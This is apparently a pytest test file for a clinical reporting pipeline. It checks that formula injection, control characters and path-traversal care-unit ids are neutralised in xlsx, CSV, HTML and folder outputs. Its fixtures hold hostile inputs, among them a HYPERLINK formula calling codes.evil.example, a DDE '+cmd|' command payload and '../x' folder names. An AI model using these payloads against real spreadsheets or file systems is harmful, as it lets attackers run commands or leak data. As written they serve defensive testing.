"""Issue 9, findings 2 (cell text in releasable outputs), 5 (control characters) and 6 (formula
injection), and SPEC v1.1 §6.6 (per-unit folders): a small extract with hostile care unit ids and
hostile quarantined codes goes through the real `aos run` and `aos report`."""
from __future__ import annotations

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipeline import safetext
from pipeline.cohort.units import folder_name, folder_names

from .hostile import (FORMULAS, MONTH, aos, all_text, csv_cells, read_csv, unsafe_cell, write_csv,
                      write_extract, xlsx_cells)

BIG = 40_000  # more than an xlsx cell holds
UNITS = ["VC1", "vc1", *FORMULAS, "../x", "a/b", "..", ".hidden", "a\\b", "VC\u202eRTL", "VC\x01ctl",
         "VC\x00nul", "U" * BIG,
         "VC\nnl", "VC\r\ncrlf", "VC\"q,c", "VC\u2028ls"]  # line breaks: the unit files are cut by line
# Quarantined cell values: each carries a marker that must appear nowhere outside the database.
CODES = [f'=HYPERLINK("http://codes.evil.example/?QMARK1","click")', "+cmd|'/c QMARK2'!A0",
         "@SUM(QMARK3)", "-2+QMARK4", "R63\x01QMARK5", "R\u202eQMARK6", "R63\x00QMARK7",
         "QMARK8" + "x" * 1_000_000]
MARKERS = [f"QMARK{i}" for i in range(1, 11)]  # 9, 10: lab value and unit (CSV)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    ext = base / "extract"
    t = write_extract(ext, UNITS, patients_parquet=True)  # Parquet: a NUL inside a unit id
    pids = [p[0] for p in t["patients"]]
    dx = [(pids[i % len(pids)], "2025-06-03", code) for i, code in enumerate(CODES)]
    dx += [(p, "2025-06-04", "R53.1") for p in pids]  # most rows valid: < 50 % quarantined
    pq.write_table(pa.table({"patient_id": [r[0] for r in dx], "diagnosis_date": [r[1] for r in dx],
                             "icd10": [r[2] for r in dx]}), ext / "diagnoses.parquet")
    write_csv(ext / "referrals.csv", ["patient_id", "event_date", "pathway", "event", "care_unit_id"],
              [[pids[0], "2024-01-10", "AOS", "VP810", "VC1"]])
    # quarantined lab values and units, in the CSV path
    with (ext / "lab_results.csv").open("a", encoding="utf-8") as f:
        f.write(f'{pids[1]},2025-06-05,crp,"=1+QMARK9",mg/L\n{pids[2]},2025-06-05,crp,3,"g/L\x01QMARK10"\n')
    db, out = base / "aos.duckdb", base / "out"
    run = aos("run", ext, "--db", db, "--month", MONTH, "--out", out, "--lang", "en")
    report = aos("report", "--db", db, "--month", MONTH, "--out", out, "--lang", "sv")
    return run, report, out, t


def test_run_and_report_succeed(hostile_run):
    run, report, out, _ = hostile_run
    assert run.returncode == 0, run.stderr[-3000:]
    assert report.returncode == 0, report.stderr[-3000:]
    for rel in ("report.html", "report.xlsx", "run_manifest.json", "releasable/data_quality.csv",
                "sensitive/review_list.csv", "sensitive/units/index.csv"):
        assert (out / rel).is_file(), rel


def test_no_quarantined_cell_text_anywhere(hostile_run):
    run, report, out, _ = hostile_run
    text = all_text(out, (run, report))
    for m in MARKERS:
        assert m not in text, m
    dq = read_csv(out / "releasable" / "data_quality.csv")
    reasons = {(r["table_name"], r["column_name"], r["reason"]) for r in dq if r["item"] == "quarantine_reason"}
    assert ("diagnoses", "icd10", "not_icd10") in reasons
    assert ("lab_results", "value", "not_a_number") in reasons
    assert ("lab_results", "unit", "unknown_unit") in reasons
    assert "inte en ICD-10-kod" in (out / "report.html").read_text(encoding="utf-8")  # display text (sv)
    assert "inte en ICD-10-kod" in [c.value for c in xlsx_cells(out / "report.xlsx")]
    assert not unsafe_cell((run.stdout + run.stderr + report.stdout + report.stderr).replace("\n", " "))


def test_no_formula_or_control_character_in_any_output(hostile_run):
    _, _, out, _ = hostile_run
    cells = list(xlsx_cells(out / "report.xlsx"))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(len(c.value) <= safetext.XLSX_MAX for c in cells if isinstance(c.value, str))
    bad = [c.value[:40] for c in cells if isinstance(c.value, str) and unsafe_cell(c.value)]
    assert not bad
    shown = [c.value for c in cells if isinstance(c.value, str)]
    assert any(v.startswith("'=HYPERLINK(") for v in shown)  # the unit is shown, neutralised
    assert any(v.endswith(safetext.TRUNCATED) for v in shown)  # the 40,000-character unit, cut visibly
    for p in out.rglob("*.csv"):
        bad = [v[:40] for v in csv_cells(p) if unsafe_cell(v)]
        assert not bad, (p, bad)
    html = (out / "report.html").read_text(encoding="utf-8")
    assert not safetext.PLAIN_UNSAFE_RE.search(html)


def test_formula_units_neutralised_in_sensitive_lists(hostile_run):
    _, _, out, _ = hostile_run
    units = {r["care_unit_id"] for r in read_csv(out / "sensitive" / "review_list.csv")}
    for f in FORMULAS[:3]:
        assert "'" + f in units and f not in units
    assert "-2+3" not in units and "'-2+3" in units


def test_unit_folders(hostile_run):
    _, _, out, t = hostile_run
    root = (out / "sensitive" / "units").resolve()
    folders = [p for p in root.iterdir() if p.is_dir()]
    assert {p.parent for p in folders} == {root}
    assert len(folders) == len(UNITS)  # one per unit, no two ids share a folder
    assert len({p.name.casefold() for p in folders}) == len(folders)
    for p in folders:
        assert not p.name.startswith(".") and not unsafe_cell(p.name) and len(p.name) <= 64
        assert sorted(c.name for c in p.iterdir()) == ["criteria.csv", "review_list.csv"]
    index = read_csv(root / "index.csv")
    assert {r["folder"] for r in index} == {p.name for p in folders}
    assert not any(unsafe_cell(r["care_unit_id"]) for r in index)
    region = read_csv(out / "sensitive" / "review_list.csv")
    region_crit = read_csv(out / "sensitive" / "criteria.csv")
    unit_of = {safetext.text(p[0]): safetext.text(p[3]) for p in t["patients"]}
    for r in index:
        rows = read_csv(root / r["folder"] / "review_list.csv")
        assert rows == [x for x in region if x["care_unit_id"] == r["care_unit_id"]]
        assert len(rows) == 5  # every patient of the unit is flagged in the fixture
        crit = read_csv(root / r["folder"] / "criteria.csv")
        assert crit and crit == [x for x in region_crit if unit_of[x["patient_id"]] == r["care_unit_id"]]


def test_folder_names_are_safe_and_distinct():
    ids = ["../x", "..", ".", "a/b", "a\\b", "=1", "-x", " x", "VC1", "vc1", "x" * 500, "x" * 501, "", None,
           "%41", "A", "ä", "a\x00", "~"]
    names = folder_names(ids)
    assert len(set(n.casefold() for n in names.values())) == len(ids)
    for n in names.values():
        assert "/" not in n and "\\" not in n and not n.startswith((".", "-")) and n not in ("", ".", "..")
        assert not unsafe_cell(n) and len(n) <= 64 + 11
    assert folder_name("VC001") == "VC001"  # ordinary ids stay readable
    assert folder_names(["VC1", "VC2"]) == {"VC1": "VC1", "VC2": "VC2"}


@pytest.mark.parametrize("value,expected", [
    ('=HYPERLINK("x")', '\'=HYPERLINK("x")'), ("+1+1", "'+1+1"), ("@SUM(1)", "'@SUM(1)"), ("-2+3", "'-2+3"),
    ("-2.5", "-2.5"), ("+3", "+3"), ("1e-5", "1e-5"), ("a\x01b", "a\ufffdb"), ("\t=1", "\ufffd=1"),
    ("x\u202ey", "x\ufffdy"), ("plain text", "plain text"), ("", "")])
def test_safe_text_python_and_sql_agree(value, expected):
    import duckdb
    con = duckdb.connect()
    safetext.install(con)
    assert safetext.text(value) == expected
    assert con.execute("SELECT aos_safe_text(?)", [value]).fetchone()[0] == expected


def test_xlsx_text_is_cut_visibly():
    s = safetext.xlsx_text("y" * 100_000)
    assert len(s) == safetext.XLSX_MAX and s.endswith(safetext.TRUNCATED)


def test_frame_neutralises_text_cells_only():
    import pandas as pd
    df = pd.DataFrame({"group": ["=1+1", "VC1", None], "n": [-2, 5, 7], "ratio": [-0.5, 1.0, None],
                       "flag": [True, False, True]})
    out = safetext.frame(df)
    assert out["group"].tolist()[:2] == ["'=1+1", "VC1"] and out["group"].isna().iloc[2]
    assert out["n"].tolist() == [-2, 5, 7] and out["ratio"].tolist()[:2] == [-0.5, 1.0]
    assert out["flag"].tolist() == [True, False, True]
    assert df["group"].iloc[0] == "=1+1"  # a copy
